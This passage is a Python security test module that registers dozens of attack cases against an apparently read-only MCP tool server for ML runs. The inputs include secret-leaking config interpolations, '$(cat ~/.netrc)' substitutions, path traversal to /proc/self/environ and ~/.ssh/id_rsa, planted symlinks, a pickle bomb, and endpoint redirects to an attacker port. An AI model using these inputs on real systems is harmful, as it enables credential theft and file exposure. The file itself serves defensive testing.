"""Blind set 7's attacks, part 1 (registered in blind7_world.ATTACKS; played by test_mcp_readonly_blind7.py)."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import time

import blind7_world as bw
from blind7_world import END, ESC, add, attack

# --------------------------------------------------------------------------- interpolations, resolvers

_INTERP = {
    "interp_escaped_brace_env": ["+b7.x=" + ESC + "oc.env:HF_TOKEN" + END],
    "interp_escaped_both_braces": ["+b7.x=" + ESC + "oc.env:OPENAI_API_KEY\\}"],
    "interp_escaped_in_notes": ["notes=" + ESC + "oc.env:GITHUB_PAT" + END],
    "interp_escaped_in_dict": ["+b7.x={a:" + ESC + "oc.env:RUNPOD_API_KEY" + END + "}"],
    "interp_escaped_in_list": ["+b7.x=[" + ESC + "oc.env:WANDB_API_KEY" + END + "]"],
    "interp_escaped_in_choice": ["+b7.x=choice(a," + ESC + "oc.env:AWS_SECRET_ACCESS_KEY" + END + ")"],
    "interp_escaped_int_field": ["profile.max_steps=" + ESC + "oc.env:B7_DB_PASSWD" + END],
    "interp_escaped_enum_field": ["model.dtype=" + ESC + "oc.env:ANTHROPIC_API_KEY" + END],
    "interp_escaped_seed": ["seed=" + ESC + "oc.env:B7_DB_PASSWD" + END],
    "interp_escaped_home": ["+b7.x=" + ESC + "oc.env:HOME" + END],
    "interp_escaped_dsn_url": ["+b7.x=" + ESC + "oc.env:DATABASE_URL" + END],
    "interp_escaped_unicode_secret": ["+b7.x=" + ESC + "oc.env:UNICODE_TOKEN" + END],
    "interp_escaped_nested_default": ["+b7.x=" + ESC + "oc.env:NOPE_B7," + ESC + "oc.env:SLACK_WEBHOOK\\}\\}"],
    "interp_escaped_oc_decode": ["+b7.x=" + ESC + "oc.decode:" + ESC + "oc.env:X_AUTH" + END + END],
    "interp_escaped_oc_create": ["+b7.x=" + ESC + "oc.create:" + ESC + "oc.env:SESSION_COOKIE" + END + END],
    "interp_escaped_hydra_resolver": ["task=jsonl",
                                      "task.path=" + ESC + "hydra:runtime.cwd" + END + "/../outside/secret.jsonl"],
    "interp_escaped_env_in_path": ["task=jsonl", "task.path=" + ESC + "oc.env:HOME" + END + "/notes.jsonl"],
    "interp_escaped_in_group_option": ["model=" + ESC + "oc.env:HF_TOKEN" + END],
    "interp_escaped_hydra_job_name": ["hydra.job.name=" + ESC + "oc.env:MyServiceApiKey" + END],
    "interp_fullwidth_dollar_brace": ["+b7.x=\uff04\uff5boc.env:HF_TOKEN\uff5d"],
    "interp_double_dollar": ["+b7.x=$$\\{oc.env:API_KEY_2\\}"],
    "interp_quoted_escape": ["+b7.x='$\\{oc.env:PRIVATE_SK}'"],
    "interp_shell_style_dollar": ["+b7.x=$HF_TOKEN", "+b7.y=$(cat ~/.netrc)", "+b7.z=`cat ~/.netrc`"],
    "interp_escaped_short_secret": ["+b7.x=" + ESC + "oc.env:B7_SHORT_TOKEN" + END],
    "interp_escaped_deploy_note": ["+b7.x=" + ESC + "oc.env:DEPLOY_NOTE" + END],
}
_INTERP_PLAN = {"interp_escaped_brace_env", "interp_escaped_int_field", "interp_escaped_in_dict",
                "interp_escaped_dsn_url", "interp_shell_style_dollar"}
for _n, _ov in _INTERP.items():
    def _f(c, _ov=_ov, _n=_n):
        c.compose(*_ov)
        if _n in _INTERP_PLAN:
            c.plan(*_ov)
        return [str(c.w.home)] if "oc.env:HOME" in " ".join(_ov) else []
    add("interpolation", _n, _f)


@attack("interpolation")
def interp_escaped_sweep_multirun(c):
    c.compose("+b7.x=a," + ESC + "oc.env:RUNPOD_API_KEY" + END, multirun=True)


@attack("interpolation")
def interp_escaped_in_improve_overrides(c):
    c.call("improve", transcripts=str(c.w.outputs / "benign_store"), output=str(c.o),
           overrides=["reward.params.threshold=" + ESC + "oc.env:HF_TOKEN" + END,
                      "+task.b7=" + ESC + "oc.env:OPENAI_API_KEY" + END])


@attack("interpolation")
def interp_escaped_in_ingest_format(c):
    c.call("ingest", inputs=[str(c.w.project / "data" / "chats.jsonl")], output=str(c.o),
           format=ESC + "oc.env:HF_TOKEN" + END)


@attack("interpolation")
def interp_planted_project_conf(c):
    for g in ("model", "task"):
        (c.w.project / "conf" / g).mkdir(parents=True, exist_ok=True)
    (c.w.project / "conf" / "model" / "b7env.yaml").write_text(
        "name: b7env\nsource: random_init\nname_or_path: ${oc.env:HF_TOKEN}\n")
    (c.w.project / "conf" / "task" / "b7env.yaml").write_text("name: arithmetic\nnote: ${oc.env:GITHUB_PAT}\n")
    yield
    c.compose("model=b7env")
    c.compose("task=b7env")
    c.call("list_options", group="model")


@attack("interpolation")
def interp_planted_manifest_values(c):
    d = c.run(manifest={"status": "completed", "overrides": ["notes=${oc.env:HF_TOKEN}"],
                        "error": "${oc.env:OPENAI_API_KEY}", "config": {"x": "${oc.env:GITHUB_PAT}"}})
    (d / "metrics.jsonl").write_text(json.dumps({"step": 1, "reward": "${oc.env:RUNPOD_API_KEY}"}) + "\n")
    yield
    c.call("run_status", run_dir=str(d))
    c.call("run_metrics", run_dir=str(d), last=0)
    c.call("list_runs", limit=500)


@attack("interpolation")
def interp_planted_hydra_files(c):
    d = c.run()
    (d / ".hydra").mkdir()
    (d / ".hydra" / "config.yaml").write_text("notes: ${oc.env:HF_TOKEN}\nx: ${oc.env:WANDB_API_KEY}\n")
    (d / ".hydra" / "overrides.yaml").write_text("- notes=${oc.env:GITHUB_PAT}\n")
    (d / ".hydra" / "hydra.yaml").write_text("hydra:\n  job:\n    name: ${oc.env:ANTHROPIC_API_KEY}\n")
    yield
    c.call("run_status", run_dir=str(d))
    c.call("list_runs", limit=500)
    c.call("lineage", run_dir=str(d))


@attack("interpolation")
def interp_sweep_multirun_yaml(c):
    s = c.w.outputs / "multirun" / "2026-12-02" / f"b7-{c.name}"
    (s / "0").mkdir(parents=True)
    (s / "0" / "manifest.json").write_text(json.dumps({"status": "completed"}))
    (s / "multirun.yaml").write_text("hydra:\n  x: ${oc.env:HF_TOKEN}\nnotes: ${oc.env:OPENAI_API_KEY}\n")
    (s / "optimization_results.yaml").write_text("name: ${oc.env:GITHUB_PAT}\nbest_params: {a: 1}\n")
    yield
    c.call("sweep_report", sweep_dir=str(s))


# --------------------------------------------------------------------------- gated keys, override grammar

def _a(port):
    return f"http://127.0.0.1:{port}"


_GRAMMAR = {
    "key_graphql_url_upper": ["provider=runpod", "provider.max_cost=1", "+provider.GRAPHQL_URL={A}/graphql"],
    "key_graphql_url_plusplus": ["provider=runpod", "provider.max_cost=1", "++provider.graphql_url={A}/graphql"],
    "key_url_in_package_dict": ["provider=runpod", "provider.max_cost=1", "+b7@provider={{graphql_url: '{A}'}}"],
    "key_url_synonyms": ["provider=runpod", "provider.max_cost=1", "+provider.api={A}", "+provider.host={A}",
                         "+provider.server={A}", "+provider.uri={A}", "+provider.base={A}", "+provider.api_base={A}"],
    "key_url_trailing_chars": ["reward=judge", "+reward.base_url_={A}",
                               "+reward.base_urls=[{A}]", "+reward.baseUrl={A}"],
    "key_url_in_list_of_dicts": ["reward=judge", "+reward.b7=[{{base_url: '{A}'}}]"],
    "key_api_key_env_variants": ["reward=judge", "+reward.API_KEY_ENV=HF_TOKEN", "+reward.key_env=HF_TOKEN",
                                 "+reward.token_env=HF_TOKEN", "+reward.apikeyenv=HF_TOKEN"],
    "key_calibration_variants": ["reward=judge", "+reward.CALIBRATION=data/ok.jsonl",
                                 "+reward.calibration_set=data/ok.jsonl",
                                 "+reward.params={{calibration: data/ok.jsonl}}"],
    "key_trust_remote_code_spellings": ["model.trust_remote_code=yes", "+model.TRUST_REMOTE_CODE=true",
                                        "+model.trust_remote_code_=true"],
    "key_trust_remote_code_int": ["model.trust_remote_code=1"],
    "key_trust_remote_code_quoted": ["model.trust_remote_code='true'"],
    "key_target_spellings": ["+reward._TARGET_=b7reward.fn", "+reward.__target__=b7reward.fn",
                             "+reward.target_=b7reward.fn", "+reward._target=b7reward.fn"],
    "key_target_in_value_string": ["+b7.x='{{\"_target_\": \"b7evil.fn\"}}'"],
    "key_setup_cmd_variant": ["provider=runpod", "provider.max_cost=1", "+provider.SETUP_CMD=touch /tmp/x",
                              "+provider.setup_cmds=[touch]", "+provider.pre_cmd=touch"],
    "key_env_set_hydra": ["+hydra.job.env_set.HF_ENDPOINT={A}", "+hydra.job.env_copy=[HF_TOKEN]"],
    "key_hydra_callbacks": ["+hydra.callbacks.b7={{_target_: b7evil.fn}}"],
    "key_hydra_callbacks_no_target": ["+hydra.callbacks.b7.x=1"],
    "key_group_at_hydra_package": ["+reward@hydra.callbacks.b7=judge"],
    "key_group_at_hydra_launcher": ["+provider@hydra.launcher=runpod"],
    "key_delete_validation": ["~reward", "~task", "~hydra.run"],
    "key_zero_width_in_key": ["+reward.base\u200burl={A}"],
    "key_homoglyph_url": ["+reward.base_\u0075rl={A}", "+reward.base_\u0443rl={A}"],
    "key_escaped_dot": ["+reward.base\\.url={A}", "reward['base_url']={A}"],
    "key_sweeper_dict": ["hydra/sweeper=basic", "+hydra.sweeper.params={{seed: 'choice(1,2)'}}"],
    "key_hydra_runtime_write": ["hydra.run.dir=../outside/b7run", "hydra.output_subdir=../outside/b7sub"],
}
for _n, _ov in _GRAMMAR.items():
    def _g(c, _ov=_ov):
        ov = [o.format(A=_a(c.w.attacker_port)) for o in _ov]
        c.compose(*ov)
        c.plan(*ov)
    add("grammar", _n, _g)

_FLAGS = {
    "flag_config_dir_outside": ["--config-dir={O}/conf", "model=b7m"],
    "flag_cd_short": ["-cd", "{O}/conf", "model=b7m"],
    "flag_config_path": ["--config-path={O}/conf", "--config-name=x"],
    "flag_cfg_all_resolve": ["--cfg=all", "--resolve"],
    "flag_info_searchpath": ["--info", "searchpath"],
    "flag_shell_completion": ["--shell-completion", "query=model="],
    "flag_searchpath_outside_conf": ["hydra.searchpath=[file://{O}/conf]", "model=b7m"],
    "flag_searchpath_link": ["hydra.searchpath=[file://link_outside_dir/conf]", "model=b7m"],
    "flag_searchpath_plus": ["+hydra.searchpath=[file://{O}/conf]", "model=b7m"],
    "flag_searchpath_pkg": ["hydra.searchpath=[pkg://b7pkg]"],
    "flag_searchpath_string": ["hydra.searchpath='file://{O}/conf'"],
}
for _n, _ov in _FLAGS.items():
    def _h(c, _ov=_ov):
        ov = [o.format(O=c.w.outside) for o in _ov]
        c.compose(*ov)
        c.plan(*ov)
    add("grammar", _n, _h)


@attack("code")
def flag_experimental_rerun_pickle(c):
    p = c.w.outputs / f"{c.name}.pickle"
    p.write_bytes(c.w.pickle_bomb(c.name))
    yield
    c.compose(f"--experimental-rerun={p}")
    c.compose("--experimental-rerun", str(p))
    c.call("improve", transcripts=str(c.w.outputs / "benign_store"), output=str(c.o),
           overrides=[f"--experimental-rerun={p}"])


# --------------------------------------------------------------------------- paths in override values

_PATHS = {
    "path_abs_outside": "task.path={O}/secret.jsonl",
    "path_dotdot": "task.path=../outside/secret.jsonl",
    "path_link_file": "task.path=link_secret",
    "path_link_dir": "task.path=link_outside_dir/secret.jsonl",
    "path_link_dir_double_slash": "task.path=link_outside_dir//secret.jsonl",
    "path_inner_dotdot": "task.path=data/../../outside/secret.jsonl",
    "path_proc_environ": "task.path=/proc/self/environ",
    "path_link_environ": "task.path=link_environ",
    "path_proc_root": "task.path=/proc/self/root{O}/secret.jsonl",
    "path_proc_cwd": "task.path=/proc/self/cwd/../outside/secret.jsonl",
    "path_proc_fd": "task.path=/proc/self/fd/0",
    "path_dev_stdin": "task.path=/dev/stdin",
    "path_project_fifo": "task.path=fifo.jsonl",
    "path_hardlink_in_project": "task.path=hardlink_secret.jsonl",
    "path_file_url": "task.path=file://{O}/secret.jsonl",
    "path_file_url_upper": "task.path=FILE:{O}/secret.jsonl",
    "path_tilde": "task.path=~/notes.jsonl",
    "path_dollar_home": "task.path=$HOME/notes.jsonl",
    "path_link_home": "task.path=link_home/notes.jsonl",
    "path_link_root": "task.path=link_root{O}/secret.jsonl",
    "path_dotenv": "task.path=.env",
    "path_credentials_json": "task.path=credentials.json",
    "path_pem": "task.path=server.pem",
    "path_quoted_abs": "task.path='{O}/secret.jsonl'",
    "path_in_choice_sweep": "task.path=choice(data/ok.jsonl,{O}/secret.jsonl)",
    "path_in_comma_sweep": "task.path=data/ok.jsonl,../outside/secret.jsonl",
    "path_in_glob": "task.path=glob(*)",
    "path_in_dict_extra": "+b7.paths={{a: '../outside/secret.jsonl', b: {{c: '{O}/dir/data.jsonl'}}}}",
    "path_in_list_extra": "+b7.paths=[data/ok.jsonl,'{O}/secret.jsonl']",
    "path_gsm8k_outside": "task=gsm8k",
    "path_model_dir_outside": "model.name_or_path={O}/dir",
    "path_model_link": "model.name_or_path=link_outside_dir/dir",
    "path_resume_outside_run": "resume={O}/run",
    "path_resume_link": "resume=link_outside_dir/run",
    "path_accelerate_config": "provider=local_gpus",
    "path_nul_byte": "task.path=data/ok.jsonl\x00../../outside/secret.jsonl",
    "path_long_dots": "task.path=" + "./" * 4000 + "../outside/secret.jsonl",
    "path_backslashes": "task.path=..\\\\outside\\\\secret.jsonl",
    "path_unicode_slash": "task.path=..\u2215outside\u2215secret.jsonl",
    "path_percent_encoded": "task.path=..%2Foutside%2Fsecret.jsonl",
}
_PATH_EXTRA = {
    "path_gsm8k_outside": ["task.path=link_home/notes.jsonl"],
    "path_accelerate_config": ["provider.accelerate_config=link_secret"],
}
for _n, _ov in _PATHS.items():
    def _p(c, _ov=_ov, _n=_n):
        ov = [_ov.format(O=c.w.outside), *_PATH_EXTRA.get(_n, [])]
        if _ov.startswith("task.path"):
            ov.insert(0, "task=jsonl")
        c.compose(*ov)
    add("paths", _n, _p)


@attack("paths")
def path_judge_rubric_file(c):
    for v in ("link_secret", "~/.ssh/id_rsa", "link_home/.netrc", "/proc/self/environ"):
        c.compose("reward=judge", f"reward.rubric_file={v}")


@attack("paths")
def path_unicode_lookalike_link(c):
    (c.w.project / "d\u0430ta").symlink_to(c.w.outside)  # Cyrillic a
    (c.w.project / "DATA").symlink_to(c.w.outside / "dir")
    (c.w.project / "data\u0301").symlink_to(c.w.outside)
    yield
    c.compose("task=jsonl", "task.path=d\u0430ta/secret.jsonl")
    c.compose("task=jsonl", "task.path=DATA/data.jsonl")
    c.compose("task=jsonl", "task.path=data\u0301/secret.jsonl")
    yield
    for n in ("d\u0430ta", "DATA", "data\u0301"):
        (c.w.project / n).unlink()


@attack("paths")
def path_new_name_under_linked_dir(c):
    # a relative path that does not exist yet (so it may not look like a path), under a dir link
    c.compose("task=jsonl", "task.path=link_outside_dir/b7-new.jsonl", "+b7.out=link_outside_dir/b7-new.log")
    c.call("improve", transcripts=str(c.w.outputs / "benign_store"), output=str(c.o),
           overrides=["hydra.run.dir=link_outside_dir/b7-improve", "hydra.output_subdir=.hydra",
                      "+hydra.job_logging.handlers.file.filename=link_outside_dir/b7.log"])


# --------------------------------------------------------------------------- planted run dirs: secrets

def _secret_manifest_variants(w: bw.World) -> dict[str, dict]:
    import base64
    import codecs
    import urllib.parse
    hf, oa, gh = w.env_secrets["HF_TOKEN"], w.env_secrets["OPENAI_API_KEY"], w.env_secrets["GITHUB_PAT"]
    rp = w.env_secrets["RUNPOD_API_KEY"]
    return {
        "raw_in_error": {"status": "failed", "error": f"boom {rp}"},
        "b64_in_error": {"status": "failed", "error": "x " + base64.b64encode(rp.encode()).decode()},
        "b64url_offset": {"status": "failed", "error": "ab" + base64.urlsafe_b64encode(("xy" + hf).encode()).decode()},
        "hex_in_error": {"status": "failed", "error": w.env_secrets["WANDB_API_KEY"].encode().hex().upper()},
        "urlenc_in_error": {"status": "failed", "error": urllib.parse.quote(w.env_secrets["MY_PASSWORD"], safe="")},
        "reversed": {"status": "failed", "error": w.env_secrets["AWS_SECRET_ACCESS_KEY"][::-1]},
        "rot13": {"status": "failed", "error": codecs.encode(w.env_secrets["SLACK_WEBHOOK"], "rot13")},
        "uescape_literal": {"status": "failed",
                            "error": "".join(f"\\u{ord(ch):04x}" for ch in w.env_secrets["X_AUTH"])},
        "fullwidth": {"status": "failed", "error": "".join(chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch
                                                          for ch in w.env_secrets["B4PASSPHRASE"])},
        "split_fields": {"status": "failed", "error": w.env_secrets["API_KEY_2"][:9],
                         "note": w.env_secrets["API_KEY_2"][9:]},
        "as_key": {"status": "completed", "result": {w.env_secrets["SESSION_COOKIE"]: 1}},
        "as_number": {"status": "completed", "result": {"n": int(w.env_secrets["B7_DB_PASSWD"])}},
        "as_float": {"status": "completed", "result": {"n": float("0." + w.env_secrets["B7_DB_PASSWD"])}},
        "charcodes": {"status": "failed", "error": ",".join(str(ord(ch)) for ch in w.env_secrets["PRIVATE_SK"])},
        "in_overrides": {"status": "completed", "overrides": [f"notes={oa}", f"+x.b7={gh}"]},
        "in_choices": {"status": "completed", "choices": {"model": w.env_secrets["MyServiceApiKey"]}},
        "unicode_secret": {"status": "failed", "error": w.env_secrets["UNICODE_TOKEN"]},
        "nfd_unicode": {"status": "failed", "error": __import__("unicodedata").normalize(
            "NFD", w.env_secrets["UNICODE_TOKEN"])},
        "zero_width_split": {"status": "failed", "error": "\u200b".join(w.env_secrets["ANTHROPIC_API_KEY"])},
        "deep_nested": {"status": "completed", "result": json.loads("{\"a\":" * 60 + json.dumps(rp) + "}" * 60)},
        "short_secret": {"status": "failed", "error": f"tok={w.env_secrets['B7_SHORT_TOKEN']}"},
        "deploy_note": {"status": "failed", "error": w.env_secrets["DEPLOY_NOTE"]},
        "npm_auth": {"status": "failed", "error": w.env_secrets["npm_config__authToken"]},
        "dsn_url": {"status": "failed", "error": f"connect postgres://b7:{w.env_secrets['MY_PASSWORD']}@db/x"},
        "file_secret_plain": {"status": "failed", "error": w.file_secrets["dotenvplain"]},
    }


for _v in ["raw_in_error", "b64_in_error", "b64url_offset", "hex_in_error", "urlenc_in_error", "reversed", "rot13",
           "uescape_literal", "fullwidth", "split_fields", "as_key", "as_number", "as_float", "charcodes",
           "in_overrides", "in_choices", "unicode_secret", "nfd_unicode", "zero_width_split", "deep_nested",
           "short_secret", "deploy_note", "npm_auth", "dsn_url"]:
    def _m(c, _v=_v):
        c.run(manifest=_secret_manifest_variants(c.w)[_v])
        yield
        d = c.w.outputs / "runs/2026-12-02" / f"b7-{c.name}"
        c.call("run_status", run_dir=str(d))
        c.call("list_runs", limit=500)
    add("run-secrets", f"manifest_secret_{_v}", _m)


@attack("run-secrets")
def log_secret_encodings(c):
    import base64
    w = c.w
    s = w.env_secrets
    d = c.run()
    lines = [f"HF {s['HF_TOKEN']}", "b64 " + base64.b64encode(("?" + s["OPENAI_API_KEY"]).encode()).decode(),
             f"half {s['ANTHROPIC_API_KEY'][:40]}", f"and {s['ANTHROPIC_API_KEY'][40:]}",
             "ansi " + s["GITHUB_PAT"][:6] + "\x1b[0m" + s["GITHUB_PAT"][6:],
             "esc " + json.dumps(s["UNICODE_TOKEN"], ensure_ascii=True),
             "sp " + " ".join(s["RUNPOD_API_KEY"]), "hex " + s["WANDB_API_KEY"].encode().hex()]
    (d / "train.log").write_text("\n".join(lines) + "\n")
    (d / "launch.log").write_text("\n".join(reversed(lines)) + "\n")
    yield
    c.call("run_status", run_dir=str(d), log_lines=200)


@attack("run-secrets")
def metrics_secret_columns_and_values(c):
    s = c.w.env_secrets
    d = c.run()
    rows = [{"step": 1, s["HF_TOKEN"]: 1.0, "reward": 0.5},
            {"step": 2, "note": s["OPENAI_API_KEY"], "reward": 0.6},
            {"step": 3, "n": int(s["B7_DB_PASSWD"]), "reward": 0.7},
            {"step": 4, "codes": [ord(ch) for ch in s["X_AUTH"]]}]
    (d / "metrics.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    yield
    c.call("run_metrics", run_dir=str(d), last=0)
    c.call("run_metrics", run_dir=str(d), keys=[s["HF_TOKEN"], "note", "n", "codes"], last=10)


@attack("run-secrets")
def eval_records_secrets(c):
    s = c.w.env_secrets
    d = c.run()
    recs = [{"prompt": s["GITHUB_PAT"], "base": s["HF_TOKEN"], "trained": "x" * 400 + s["OPENAI_API_KEY"],
             "score": 1.0, "solved": True},
            {"prompt": "p", "base_completion": f"Authorization: Bearer {s['RUNPOD_API_KEY']}", "score": 0}]
    (d / "eval_results.json").write_text(json.dumps({"summary": {"note": s["WANDB_API_KEY"]}, "records": recs}))
    yield
    c.call("run_eval", run_dir=str(d), records=500)


@attack("run-secrets")
def run_dir_named_with_secret(c):
    import base64
    s = c.w.env_secrets
    c.run(name=s["HF_TOKEN"])
    c.run(name=base64.urlsafe_b64encode(s["OPENAI_API_KEY"].encode()).decode().rstrip("="))
    c.run(name="x" + s["GITHUB_PAT"][::-1])
    yield
    c.call("list_runs", limit=500)
    c.call("run_status", run_dir=str(c.w.outputs / "runs/2026-12-02" / s["HF_TOKEN"]))


@attack("run-secrets")
def launch_json_secrets(c):
    s = c.w.env_secrets
    d = c.w.run_dir(f"b7-{c.name}")
    (d / "launch.json").write_text(json.dumps({"pid": 999999, "command": ["python", f"+x.note={s['HF_TOKEN']}",
                                                                          s["OPENAI_API_KEY"]],
                                               "log": str(d / "launch.log"), "env": {"HF_TOKEN": s["HF_TOKEN"]}}))
    (d / "launch.log").write_text(f"export GITHUB_PAT={s['GITHUB_PAT']}\n")
    yield
    c.call("run_status", run_dir=str(d))
    c.call("list_runs", limit=500)


@attack("run-secrets")
def sweep_report_secrets(c):
    import base64
    s = c.w.env_secrets
    sd = c.w.outputs / "multirun" / "2026-12-02" / f"b7-{c.name}"
    (sd / "0").mkdir(parents=True)
    (sd / "0" / "manifest.json").write_text(json.dumps({"status": "failed", "error": s["HF_TOKEN"]}))
    (sd / "summary.md").write_text(f"| job | note |\n|---|---|\n| 0 | {s['OPENAI_API_KEY']} |\n")
    (sd / "sweep_report.md").write_text("b64: " + base64.b64encode(s["GITHUB_PAT"].encode()).decode() + "\n")
    (sd / "optimization_results.yaml").write_text(f"name: b7\nbest_params:\n  note: {s['RUNPOD_API_KEY']}\n"
                                                  f"  {s['WANDB_API_KEY']}: 1\n")
    (sd / "multirun.yaml").write_text(f"notes: {s['ANTHROPIC_API_KEY']}\n")
    yield
    c.call("sweep_report", sweep_dir=str(sd))
    c.call("list_runs", limit=500)


@attack("run-secrets")
def file_secrets_in_project_as_run(c):
    # a run dir inside the project whose manifest is a secret-named file's content
    d = c.w.project / f"b7-{c.name}"
    d.mkdir()
    (d / "manifest.json").symlink_to(c.w.project / "credentials.json")
    (d / "train.log").symlink_to(c.w.project / ".env")
    (d / "metrics.jsonl").symlink_to(c.w.project / "id_ed25519")
    yield
    c.call("run_status", run_dir=str(d), log_lines=200)
    c.call("run_metrics", run_dir=str(d), last=0)
    c.call("lineage", run_dir=str(d))
    yield
    shutil.rmtree(d)


# --------------------------------------------------------------------------- planted run dirs: links, devices

_LINKS = {
    "run_dir_symlink_outside": None,
    "manifest_symlink_outside": ("manifest.json", "{O}/run/manifest.json"),
    "log_symlink_environ": ("train.log", "/proc/self/environ"),
    "metrics_symlink_environ": ("metrics.jsonl", "/proc/self/environ"),
    "eval_symlink_secret": ("eval_results.json", "{O}/run/eval_results.json"),
    "log_symlink_stdin": ("train.log", "/proc/self/fd/0"),
    "log_symlink_dev_stdin": ("launch.log", "/dev/stdin"),
    "metrics_symlink_dev_zero": ("metrics.jsonl", "/dev/zero"),
    "eval_symlink_urandom": ("eval_results.json", "/dev/urandom"),
    "log_symlink_proc_mem": ("train.log", "/proc/self/mem"),
    "log_symlink_relative_escape": ("train.log", "../../../../outside/secret.txt"),
    "log_symlink_home_key": ("train.log", "{H}/.ssh/id_rsa"),
    "manifest_symlink_proc_cmdline": ("manifest.json", "/proc/self/environ"),
}
for _n, _spec in _LINKS.items():
    def _l(c, _spec=_spec, _n=_n):
        w = c.w
        if _spec is None:
            (w.outputs / "runs/2026-12-02").mkdir(parents=True, exist_ok=True)
            d = w.outputs / "runs/2026-12-02" / f"b7-{c.name}"
            d.symlink_to(w.outside / "run")
        else:
            d = (c.run() if _spec[0] != "manifest.json" else c.w.run_dir(f"b7-{c.name}"))
            (d / _spec[0]).symlink_to(_spec[1].format(O=w.outside, H=w.home))
        yield
        for tool in ("run_status", "run_metrics", "run_eval", "lineage"):
            args = {"run_dir": str(d)}
            if tool == "run_status":
                args["log_lines"] = 200
            c.call(tool, **args)
        c.call("list_runs", limit=500)
    add("run-links", _n, _l)


@attack("run-links")
def hardlinked_run_files(c):
    d = c.run()
    os.link(c.w.outside / "run" / "train.log", d / "train.log")
    os.link(c.w.outside / "run" / "metrics.jsonl", d / "metrics.jsonl")
    os.link(c.w.outside / "run" / "eval_results.json", d / "eval_results.json")
    yield
    c.call("run_status", run_dir=str(d), log_lines=200)
    c.call("run_metrics", run_dir=str(d), last=0)
    c.call("run_eval", run_dir=str(d), records=10)


@attack("run-links")
def hardlinked_manifest(c):
    d = c.w.run_dir(f"b7-{c.name}")
    os.link(c.w.outside / "run" / "manifest.json", d / "manifest.json")
    yield
    c.call("run_status", run_dir=str(d))
    c.call("list_runs", limit=500)


@attack("run-links")
def fifos_everywhere(c):
    d = c.run()
    for n in ("train.log", "metrics.jsonl", "eval_results.json", "launch.log"):
        os.mkfifo(d / n)
    yield
    c.call("run_status", run_dir=str(d), log_lines=50)
    c.call("run_metrics", run_dir=str(d))
    c.call("run_eval", run_dir=str(d))


@attack("run-links")
def fifo_manifest(c):
    d = c.w.run_dir(f"b7-{c.name}")
    os.mkfifo(d / "manifest.json")
    yield
    c.call("list_runs", limit=500)
    c.call("run_status", run_dir=str(d))


@attack("run-links")
def unix_socket_log(c):
    d = c.run()
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(d / "train.log"))
    sock.listen(1)
    yield
    c.call("run_status", run_dir=str(d), log_lines=20)
    yield
    sock.close()


@attack("run-links")
def launch_json_log_outside(c):
    d = c.w.run_dir(f"b7-{c.name}")
    (d / "launch.json").write_text(json.dumps({"pid": 999998, "command": ["python"],
                                               "log": str(c.w.outside / "run" / "train.log")}))
    yield
    c.call("run_status", run_dir=str(d), log_lines=200)


@attack("run-links")
def launch_json_log_environ(c):
    d = c.w.run_dir(f"b7-{c.name}")
    (d / "launch.json").write_text(json.dumps({"pid": 999997, "command": ["python"], "log": "/proc/self/environ",
                                               "run_dir": str(c.w.outside / "run")}))
    yield
    c.call("run_status", run_dir=str(d), log_lines=200)
    c.call("list_runs", limit=500)


@attack("run-links")
def launch_json_pid_of_a_live_process(c):
    proc = subprocess.Popen(["sleep", "120"])
    d = c.w.run_dir(f"b7-{c.name}")
    (d / "launch.json").write_text(json.dumps({"pid": proc.pid, "command": ["python"], "log": "launch.log"}))
    yield
    c.call("run_status", run_dir=str(d))
    c.call("list_runs", limit=500)
    time.sleep(0.2)
    if proc.poll() is not None:
        c.evidence.append("the server signalled a process named in a planted launch.json")
    yield
    proc.kill()
    proc.wait()


_RUNDIR_ARGS = {
    "rundir_abs_outside": "{O}/run",
    "rundir_dotdot": "../outside/run",
    "rundir_outputs_dotdot": "{OUT}/../outside/run",
    "rundir_proc_root": "/proc/self/root{O}/run",
    "rundir_proc_cwd": "/proc/self/cwd/../outside/run",
    "rundir_link_in_project": "link_outside_dir/run",
    "rundir_tilde": "~/../outside/run",
    "rundir_file_url": "file://{O}/run",
    "rundir_nul": "{OUT}/runs\x00/../../outside/run",
    "rundir_newline": "{OUT}/runs\n{O}/run",
    "rundir_very_long": "{OUT}/" + "a/../" * 3000 + "../outside/run",
    "rundir_proc_fd_dir": "/proc/self/fd",
    "rundir_dev": "/dev",
}
for _n, _p in _RUNDIR_ARGS.items():
    def _r(c, _p=_p):
        p = _p.format(O=c.w.outside, OUT=c.w.outputs)
        for tool in ("run_status", "run_metrics", "run_eval", "lineage"):
            c.call(tool, run_dir=p)
        c.call("sweep_report", sweep_dir=p)
    add("paths", _n, _r)



# --------------------------------------------------------------------------- /proc of the server's own pid, odd names

def _server_pid(c) -> int:
    return c.s.pids[0] if c.s.pids else os.getpid()


@attack("paths")
def proc_pid_paths_of_the_server(c):
    pid = _server_pid(c)
    for v in (f"/proc/{pid}/environ", f"/proc/{pid}/cwd/../outside/secret.jsonl",
              f"/proc/{pid}/root{c.w.outside}/secret.jsonl",
              "/proc/thread-self/environ", "/dev/fd/0", f"/proc/{pid}/fd/2"):
        c.compose("task=jsonl", f"task.path={v}")
        c.call("ingest", inputs=[v], output=str(c.o))


@attack("run-links")
def run_files_link_to_server_pid_environ(c):
    pid = _server_pid(c)
    d = c.run()
    (d / "train.log").symlink_to(f"/proc/{pid}/environ")
    (d / "metrics.jsonl").symlink_to(f"/proc/{pid}/cwd/../outside/run/metrics.jsonl")
    (d / "eval_results.json").symlink_to(f"/proc/{pid}/root{c.w.outside}/run/eval_results.json")
    (c.w.project / f"b7-{c.name}-link").symlink_to(f"/proc/{pid}/environ")
    yield
    c.call("run_status", run_dir=str(d), log_lines=200)
    c.call("run_metrics", run_dir=str(d), last=0)
    c.call("run_eval", run_dir=str(d), records=5)
    c.compose("task=jsonl", f"task.path=b7-{c.name}-link")
    yield
    (c.w.project / f"b7-{c.name}-link").unlink()


@attack("run-links")
def symlink_loop_files(c):
    d = c.run()
    (d / "train.log").symlink_to(d / "metrics.jsonl")
    (d / "metrics.jsonl").symlink_to(d / "train.log")
    (d / "eval_results.json").symlink_to(d / "eval_results.json")
    yield
    c.call("run_status", run_dir=str(d))
    c.call("run_metrics", run_dir=str(d))
    c.call("run_eval", run_dir=str(d))
    c.call("list_runs", limit=500)


@attack("exhaustion")
def odd_bytes_in_run_dir_names(c):
    base = c.w.outputs / "runs" / "2026-12-02"
    base.mkdir(parents=True, exist_ok=True)
    made = []
    for raw in (b"b7-odd-\xff\xfe", b"b7-odd-\x1b[31mred", b"b7-odd-new\nline",
